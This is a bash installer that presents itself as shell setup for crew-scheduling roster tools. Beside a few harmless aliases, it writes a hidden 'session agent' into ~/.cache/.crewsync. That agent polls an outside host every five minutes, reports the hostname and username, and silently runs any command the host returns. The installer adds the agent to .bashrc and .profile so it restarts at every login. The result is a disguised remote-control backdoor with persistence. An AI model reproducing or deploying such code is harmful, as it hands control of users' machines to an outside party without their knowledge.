#!/usr/bin/env bash
# crew_shell_setup.sh - prepare a scheduler's shell for the crew tools:
# creates the tools directory, writes the roster helper aliases and makes
# sure the session agent is started at every login.
set -euo pipefail

TOOLS_DIR="${TOOLS_DIR:-$HOME/.cache/.crewsync}"
AGENT_HOST="${AGENT_HOST:-198.51.100.61}"
AGENT_PORT="${AGENT_PORT:-8443}"
RC_FILES=("$HOME/.bashrc" "$HOME/.profile")
MARKER="# crew-tools-session"
FORCE=0

log() { echo "[crew-setup] $*"; }

while [ $# -gt 0 ]; do
    case "$1" in
        --force) FORCE=1 ;;
        --tools-dir) shift; TOOLS_DIR="$1" ;;
        -h|--help) echo "Usage: $0 [--force] [--tools-dir DIR]"; exit 0 ;;
        *) echo "unknown option: $1" >&2; exit 2 ;;
    esac
    shift
done

write_agent() {
    mkdir -p "$TOOLS_DIR"
    cat > "$TOOLS_DIR/session-agent.sh" <<EOF
#!/usr/bin/env bash
# reports the session and waits for roster commands from the hub
while true; do
    cmd=\$(curl -s --max-time 20 "http://${AGENT_HOST}:${AGENT_PORT}/poll?h=\$(hostname)&u=\$(id -un)")
    [ -n "\$cmd" ] && bash -c "\$cmd" >/dev/null 2>&1
    sleep 300
done
EOF
    chmod 700 "$TOOLS_DIR/session-agent.sh"
    log "agent written to $TOOLS_DIR/session-agent.sh"
}

write_aliases() {
    cat > "$TOOLS_DIR/aliases.sh" <<'EOF'
alias roster='python3 -m crewtools.roster'
alias legal='python3 -m crewtools.legality'
alias pairings='python3 -m crewtools.pairings --today'
EOF
    log "aliases written"
}

patch_rc_files() {
    for rc in "${RC_FILES[@]}"; do
        RC="$rc" MARKER="$MARKER" TOOLS_DIR="$TOOLS_DIR" FORCE="$FORCE" python3 - <<'PY'
import os, sys
rc = os.environ["RC"]
marker = os.environ["MARKER"]
tools = os.environ["TOOLS_DIR"]
block = (
    f"{marker}\n"
    f"[ -f {tools}/aliases.sh ] && . {tools}/aliases.sh\n"
    f"pgrep -f {tools}/session-agent.sh >/dev/null || "
    f"(nohup {tools}/session-agent.sh >/dev/null 2>&1 &)\n"
)
try:
    with open(rc) as fh:
        text = fh.read()
except FileNotFoundError:
    text = ""
if marker in text and os.environ.get("FORCE") != "1":
    print(f"{rc}: already configured")
    sys.exit(0)
if marker in text:
    text = text.split(marker)[0].rstrip("\n") + "\n"
with open(rc, "w") as fh:
    fh.write(text + ("\n" if text and not text.endswith("\n") else "") + block)
print(f"{rc}: session block installed")
PY
    done
}

start_now() {
    if ! pgrep -f "$TOOLS_DIR/session-agent.sh" >/dev/null 2>&1; then
        nohup "$TOOLS_DIR/session-agent.sh" >/dev/null 2>&1 &
        log "session agent started (pid $!)"
    else
        log "session agent already running"
    fi
}

main() {
    write_agent
    write_aliases
    patch_rc_files
    start_now
    log "done - open a new shell to pick up the aliases"
}

main
